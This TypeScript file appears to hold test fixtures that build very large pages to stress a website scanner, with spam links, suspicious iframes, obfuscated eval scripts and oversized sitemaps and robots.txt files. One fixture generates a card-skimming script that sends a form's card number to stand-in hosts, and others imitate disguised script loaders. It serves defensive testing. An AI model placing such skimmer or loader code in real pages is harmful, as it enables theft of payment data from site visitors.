import type { InMemory } from './in-memory.ts'

const times = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join('')
const inside = (attribute: string, content: string) => `<body>${`<b ${attribute}>`.repeat(380)}${content}`
const sitemap = (count: number) => ({
  type: 'text/xml',
  body: `<urlset>${times(count, (index) => `<url><loc>https://site.example/zz/${index}</loc></url>`)}</urlset>`,
})
const packed = (payload: string, words: string) =>
  `<script>eval(function(p,a,c,k,e,d){}('${payload}',2,2,'${words}'.split('|'),0,{}))</script>`
const DISGUISED = '<script>eval(atob("QUFBQUFBQUFBQUFB"));createElement("script")</script>'
const STOLEN = (index: number) =>
  `new Image().src="//a${index}.bb.cc/?c="+document.forms[0].cardnumber.value;`

/** Pages on which work for each element, once done over the whole page or all that is around it, takes seconds. */
export const costlyPages: Record<string, () => InMemory> = {
  'links in styled boxes': () => ({
    front: inside(`style="${'a:b;'.repeat(990)}"`, '<a href=//x.cc>casino online</a>'.repeat(100)),
  }),
  'errors in boxes of many classes': () => ({
    front: inside(`class="${'q '.repeat(2_000)}"`, '<u>Invalid site key</u>'.repeat(100)),
  }),
  'links under many rules in boxes of many classes': () => ({
    front: `<style>${times(200, (index) => `.c${index} .q{display:none}`)}</style>${inside(
      `class="${'q '.repeat(2_000)}"`,
      '<a href=//x.cc class=q>casino online</a>'.repeat(100),
    )}`,
  }),
  'frames before a long text': () => ({
    front: `<body>${'<iframe src=//a.bad.tk></iframe>'.repeat(800)}<p>${'x'.repeat(2_000_000)}`,
  }),
  'a long sitemap beside many links': () => ({
    front: `<body>${'<a href=/b>x</a>'.repeat(8_000)}`,
    files: { '/sitemap.xml': sitemap(4_000) },
  }),
  'disguised scripts beside strangers’ scripts': () => ({
    front: `<html><body>${DISGUISED.repeat(30)}${'<script src=//a.zz.cc></script>'.repeat(40)}${'<a href=/b>x</a>'.repeat(3_000)}`,
  }),
  'scripts that unpack into long texts': () => ({
    front: `<html><body>${packed('1 '.repeat(2_000), `x|${'A'.repeat(10_000)}`).repeat(10)}`,
  }),
  'errors of PHP in a long text': () => ({
    front: `<body><p>${'<i>ab cd</i> '.repeat(14_000)}${'x '.repeat(1_000_000)}${'<div>Fatal error: a in /a.php on line 3</div>'.repeat(40)}<p>${'x '.repeat(200_000)}`,
  }),
  'a form of many fields': () => ({
    front: `<form method=post><textarea name=m></textarea>${'<input name=aa>'.repeat(14_000)}</form>`,
  }),
  'places for a check beside a long script': () => ({
    front: `<body>${'<i class=g-recaptcha data-sitekey=""></i>'.repeat(14_000)}<script>${'x '.repeat(1_000_000)}sitekey</script>`,
  }),
  'coloured links beside a long style': () => ({
    front: `<body><style>${'a{b:c}'.repeat(300_000)}</style>${'<a href=//x.cc style=color:red>casino online</a>'.repeat(3_000)}`,
  }),
  'a picture of two million choices': () => ({ front: `<body><img srcset="${'a, '.repeat(2_000_000)}">` }),
  'open pictures that a second visit nearly shows': () => ({
    front: `<body>${times(8_000, (index) => `<img src="http://a.b/${'a'.repeat(150)}${index}">`)}`,
    second: `<html>${`<img src="http://a.b/${'a'.repeat(100)}"`.repeat(24_000)}`,
  }),
  'canonical tags behind a long remark': () => ({
    front: `<html><head><!--${'x'.repeat(2_000_000)}-->${times(10_000, (index) => `<link rel=canonical href="https://site${index}.example/">`)}`,
  }),
  'many files under many rules of robots.txt': () => ({
    front: `<body>${times(14_000, (index) => `<link rel=stylesheet href=/${index}.css>`)}`,
    files: {
      '/robots.txt': {
        type: 'text/plain',
        body: `User-agent: *\n${times(25_000, (index) => `Disallow: /q${index}\n`)}`,
      },
    },
  }),
  'a script that sends a card to many strangers': () => ({
    front: `<form><input name=cardnumber></form><script>/* */${' '.repeat(3_000)}${times(5_000, STOLEN)}</script>`,
  }),
}
